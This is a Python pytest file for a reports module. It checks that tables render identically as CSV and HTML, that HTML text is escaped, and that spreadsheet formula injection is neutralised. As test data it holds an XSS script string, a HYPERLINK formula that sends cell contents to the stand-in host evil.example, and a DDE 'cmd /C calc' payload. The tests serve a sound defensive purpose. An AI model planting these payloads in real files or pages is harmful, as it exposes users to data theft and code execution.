"""The one table type of the reports (`lgsp.reports.tables`): the same `Table` written as CSV and as HTML,
every text escaped in HTML, and both reports rendered through it. Pure functions: no database, no hub."""

import csv
import io
from collections.abc import Callable, Iterable
from datetime import UTC, date, datetime
from types import ModuleType

import pytest

from lgsp.indicators.models import OnceOnlyIndicators, RatioIndicator, ReuseIndicator
from lgsp.reports import connectivity_html, onceonly
from lgsp.reports.models import (
    CauseLine,
    ConnectivityReport,
    DocumentTypeLine,
    Interval,
    LinkFigures,
    OnceOnlyReport,
    ProcedureLine,
    Province,
    ProvinceLink,
    SystemLine,
)
from lgsp.reports.tables import Table, html_page, tables_csv, tables_html

AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
TABLES = [
    Table(
        "by_day",
        ["day", "name", "count", "share", "seconds", "done", "at"],
        [
            ["d1", 'a<b> & "c"', 3, 0.5, 3661.4, True, AT],
            [None, "x,y", 0, None, 90000, False, None],
        ],
    ),
    Table("total", ["count"], [[3]]),
]


def test_one_table_is_written_as_csv_and_as_html() -> None:
    assert tables_csv(TABLES) == (
        "section,day,name,count,share,seconds,done,at\r\n"
        'by_day,d1,"a<b> & ""c""",3,0.5,3661.4,True,2026-01-02T03:04:05+00:00\r\n'
        'by_day,,"x,y",0,,90000,False,\r\n'
        "section,count\r\n"
        "total,3\r\n"
    )
    assert tables_html(TABLES) == (
        "<h2>by day</h2><table><tr><th>day</th><th>name</th><th>count</th><th>share</th>"
        "<th>duration</th><th>done</th><th>at</th></tr>"
        "<tr><td>d1</td><td>a&lt;b&gt; &amp; &quot;c&quot;</td><td class='n'>3</td><td class='n'>0.500</td>"
        "<td class='n'>01:01:01</td><td>yes</td><td>2026-01-02 03:04:05</td></tr>"
        "<tr><td></td><td>x,y</td><td class='n'>0</td><td></td>"
        "<td class='n'>1d 01:00:00</td><td>no</td><td></td></tr></table>"
        "<h2>total</h2><table><tr><th>count</th></tr><tr><td class='n'>3</td></tr></table>"
    )


def test_raw_headings_are_the_csv_column_names() -> None:
    page = tables_html(TABLES, raw_headings=True)
    assert "<th>seconds</th>" in page and "<th>duration</th>" not in page
    assert "<td class='n'>01:01:01</td>" in page  # the cells are the same either way


def test_every_text_is_escaped_in_html() -> None:
    evil = "<script>alert('x')</script>"
    table = Table(f"s{evil}", [f"c{evil}"], [[evil]])
    page = html_page(evil, "body{}", tables_html([table], raw_headings=True))
    assert "<script>" not in page
    assert page.count("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;") == 4  # title, h2, th and td
    # CSV is no markup: the text stays as it is.
    assert list(csv.reader(io.StringIO(tables_csv([table])))) == [["section", f"c{evil}"], [f"s{evil}", evil]]


#: Text a spreadsheet would run as a formula (OWASP's list of first characters), and what the CSV holds.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "-5": "'-5",  # text that looks like a number is still text: shown as -5, never run
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "a=1": "a=1",
    " =1": " =1",
}


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() -> None:
    rows = [[text, -3, -2.5, 0] for text in FORMULAS]
    table = Table("=section", ["name", "-n", "x", "y"], rows)
    read = list(csv.reader(io.StringIO(tables_csv([table]), newline="")))
    assert read[0] == ["section", "name", "'-n", "x", "y"]
    assert [row[1] for row in read[1:]] == list(FORMULAS.values())
    assert {row[0] for row in read[1:]} == {"'=section"}
    # Numbers are numbers, negative ones too: written bare, so a spreadsheet reads them as numbers.
    assert {tuple(row[2:]) for row in read[1:]} == {("-3", "-2.5", "0")}


def test_a_system_named_like_a_formula_is_neutralised_in_the_connectivity_csv() -> None:
    report = connectivity_sample()
    evil = report.systems[0].model_copy(update={"name": '=HYPERLINK("http://evil.example","x")'})
    report = report.model_copy(update={"systems": [evil]})
    sections = list(csv.reader(io.StringIO(connectivity_html.report_csv(report), newline="")))
    names = [row for row in sections if row and row[0] == "systems"]
    assert names and '\'=HYPERLINK("http://evil.example","x")' in names[0]
    assert not any(cell.startswith("=") for row in sections for cell in row)


def test_a_page_holds_its_style_and_body() -> None:
    assert html_page("A & B", "td{x:1}", "<h1>A</h1>", "<p>b</p>") == (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>A &amp; B</title>"
        "<style>td{x:1}</style></head><body><h1>A</h1><p>b</p></body></html>"
    )


def _figures(share: float | None) -> LinkFigures:
    return LinkFigures(connected_seconds=3600.0, share=share, outages=1, longest_outage_seconds=60.0)


def connectivity_sample() -> ConnectivityReport:
    """A small connectivity report: one system in scope, one exempt, one stretch of platform downtime."""
    line = SystemLine(
        code="S<1>",
        name="Hệ thống & co",
        agency_code="A1",
        level="province",
        kind="system",
        in_scope=True,
        registered_at=datetime(2025, 12, 1, tzinfo=UTC),
        retired_at=None,
        observed_seconds=7200.0,
        lgsp=_figures(0.5),
        ngsp=_figures(None),
        last_heartbeat_at=AT,
        exchanges_as_client=2,
        exchanges_as_provider=0,
    )
    link = ProvinceLink(connected_seconds=3600.0, observed_seconds=7200.0, ratio=0.5)
    return ConnectivityReport(
        generated_at=AT,
        start=datetime(2026, 1, 1, tzinfo=UTC),
        end=datetime(2026, 1, 2, tzinfo=UTC),
        observed_until=datetime(2026, 1, 2, tzinfo=UTC),
        period_seconds=86400.0,
        province=Province(
            in_scope_systems=1, exempt_systems=1, lgsp=link, ngsp=link, platform_downtime_seconds=60.0
        ),
        platform_downtime=[Interval(start=AT, end=AT, seconds=60.0)],
        systems=[line],
        exempt=[line.model_copy(update={"code": "E1", "in_scope": False, "ngsp": None})],
        outages=None,
    )


def once_only_sample() -> OnceOnlyReport:
    """A small once-only report: one procedure, one document type, one cause."""
    ratio = RatioIndicator(numerator=3, denominator=4, ratio=0.75)
    return OnceOnlyReport(
        generated_at="2026-01-02T03:04:05+00:00",
        measures=OnceOnlyIndicators(
            start=date(2026, 1, 1),
            end=None,
            by_dossier=ratio,
            by_applicant=ratio,
            reuse=ReuseIndicator(numerator=3, denominator=4, ratio=0.75, points=2.8, max_points=3.0),
        ),
        by_procedure=[
            ProcedureLine(
                procedure="P1", name="<b>Birth</b>", dossiers=4, without_resubmission=3, with_reuse=2
            )
        ],
        by_document_type=[
            DocumentTypeLine(
                document_type="D1", name="Căn cước", reused=1, first_submissions=2, resubmissions=1
            )
        ],
        by_cause=[CauseLine(cause="expired", resubmissions=1)],
    )


@pytest.mark.parametrize(
    ("module", "sample", "sections", "heading", "escaped"),
    [
        (
            connectivity_html,
            connectivity_sample,
            [
                "period",
                "province",
                "by_level",
                "by_agency",
                "platform_downtime",
                "systems",
                "exempt_systems",
                "scope_changes",
            ],
            "<th>observed until</th>",
            "<td>S&lt;1&gt;</td>",
        ),
        # The once-only page heads its columns with their CSV names, as it always has.
        (
            onceonly,
            once_only_sample,
            ["measures", "by_procedure", "by_document_type", "by_cause", "by_office"],
            "<th>with_reuse</th>",
            "<td>&lt;b&gt;Birth&lt;/b&gt;</td>",
        ),
    ],
)
def test_both_reports_render_through_the_one_table_type(
    monkeypatch: pytest.MonkeyPatch,
    module: ModuleType,
    sample: Callable[[], ConnectivityReport | OnceOnlyReport],
    sections: list[str],
    heading: str,
    escaped: str,
) -> None:
    written: dict[str, list[Table]] = {}

    def spy(name: str, render: Callable[..., str]) -> Callable[..., str]:
        def recorded(tables: Iterable[Table], **options: bool) -> str:
            written[name] = list(tables)
            return render(written[name], **options)

        return recorded

    monkeypatch.setattr(module, "tables_csv", spy("csv", tables_csv))
    monkeypatch.setattr(module, "tables_html", spy("html", tables_html))
    report = sample()
    as_csv, as_html = module.report_csv(report), module.report_html(report)

    # CSV and HTML are the same tables, written by the one CSV writer and the one HTML renderer.
    assert written["csv"] == written["html"]
    assert [table.section for table in written["csv"]] == sections
    assert as_csv == tables_csv(written["csv"])
    assert heading in as_html and as_html.endswith("</table></body></html>")
    assert escaped in as_html
